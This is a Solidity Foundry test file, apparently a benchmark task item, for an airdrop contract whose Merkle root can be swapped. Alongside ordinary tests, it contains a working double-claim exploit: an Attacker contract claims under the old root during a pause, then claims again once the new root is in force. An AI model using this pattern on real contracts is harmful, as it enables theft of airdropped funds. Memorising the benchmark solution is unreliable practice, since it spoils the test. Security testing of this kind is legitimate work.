// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

// assay-canary-3efa6941-405b-4695-bcb8-a74d683fe562

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./SeasonDrops.sol";

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20 {
    constructor() ERC20("Token", "TOK") {
        _mint(msg.sender, 1_000_000e18);
    }
}

contract Attacker {
    function take(SeasonDrops drops, uint256 amount, bytes32 sibling) external {
        bytes32[] memory proof = new bytes32[](1);
        proof[0] = sibling;
        drops.take(proof, amount);
    }

    function change(SeasonDrops drops) external {
        drops.putInForce();
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANNA = address(0xA22A);
    address private constant BELA = address(0xBE1A);
    uint256 private constant START = 1_767_600_000;

    Token public token;
    SeasonDrops public drops;
    Attacker public claimant;

    function setUp() public {
        vm.warp(START);
        token = new Token();
        claimant = new Attacker();
        drops = new SeasonDrops(token, _pair(_leaf(address(claimant), 100_000e18), _leaf(ANNA, 50_000e18)));
        token.approve(address(drops), type(uint256).max);
        drops.give(300_000e18);
        _take(ANNA, 50_000e18, _leaf(address(claimant), 100_000e18));
        drops.pause();
        // nobody has taken the first amount, and Bela came later
        drops.announce(_pair(_leaf(address(claimant), 100_000e18), _leaf(BELA, 70_000e18)));
    }

    function _leaf(address who, uint256 amount) private pure returns (bytes32) {
        return keccak256(bytes.concat(keccak256(abi.encode(who, amount))));
    }

    function _pair(bytes32 a, bytes32 b) private pure returns (bytes32) {
        return a < b ? keccak256(abi.encode(a, b)) : keccak256(abi.encode(b, a));
    }

    function _proof(bytes32 sibling) private pure returns (bytes32[] memory proof) {
        proof = new bytes32[](1);
        proof[0] = sibling;
    }

    function _take(address who, uint256 amount, bytes32 sibling) private {
        vm.startPrank(who);
        drops.take(_proof(sibling), amount);
        vm.stopPrank();
    }

    function test_Regular() public {
        require(drops.paused() && drops.edition() == 1 && drops.taken(1, ANNA), "announced");
        drops.announce(drops.nextRoot());
        vm.warp(START + 1 days);
        drops.putInForce();
        require(!drops.paused() && drops.edition() == 2 && drops.nextRoot() == 0, "in force");
        _take(BELA, 70_000e18, _leaf(address(claimant), 100_000e18));
        _take(address(claimant), 100_000e18, _leaf(BELA, 70_000e18));
        require(token.balanceOf(BELA) == 70_000e18 && token.balanceOf(address(claimant)) == 100_000e18, "taken");
        drops.transferOwnership(BELA);
        vm.prank(BELA);
        drops.renounceOwnership();
    }

    function test_RefusesLists() public {
        vm.expectRevert(abi.encodeWithSelector(SeasonDrops.TooEarly.selector, START + 1 days));
        drops.putInForce();
        vm.expectRevert(abi.encodeWithSelector(Pausable.EnforcedPause.selector));
        drops.pause();
        vm.warp(START + 1 days);
        drops.putInForce();
        vm.expectRevert(abi.encodeWithSelector(SeasonDrops.NothingAnnounced.selector));
        drops.putInForce();
        vm.expectRevert(abi.encodeWithSelector(Pausable.ExpectedPause.selector));
        drops.announce(bytes32(uint256(1)));
        vm.prank(BELA);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BELA));
        drops.pause();
        drops.pause();
        vm.prank(BELA);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BELA));
        drops.announce(bytes32(uint256(1)));
    }

    function test_RefusesAmounts() public {
        vm.warp(START + 1 days);
        drops.putInForce();
        bytes32 sibling = _leaf(address(claimant), 100_000e18);
        vm.startPrank(BELA);
        vm.expectRevert(abi.encodeWithSelector(AmountList.NotOnTheList.selector, BELA, 70_001e18));
        drops.take(_proof(sibling), 70_001e18);
        drops.take(_proof(sibling), 70_000e18);
        vm.expectRevert(abi.encodeWithSelector(AmountList.TakenAlready.selector, BELA));
        drops.take(_proof(sibling), 70_000e18);
        vm.stopPrank();
        vm.startPrank(ANNA);
        vm.expectRevert(abi.encodeWithSelector(AmountList.NotOnTheList.selector, ANNA, 50_000e18));
        drops.take(_proof(sibling), 50_000e18);
        vm.stopPrank();
    }

    function exploit() public {
        claimant.take(drops, 100_000e18, _leaf(ANNA, 50_000e18));
        vm.warp(START + 1 days);
        claimant.change(drops);
        claimant.take(drops, 100_000e18, _leaf(BELA, 70_000e18));
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(claimant)) >= 200_000e18, "no gain");
    }

    function target() public view returns (address) {
        return address(drops);
    }

    function attacker() public view returns (address) {
        return address(claimant);
    }
}
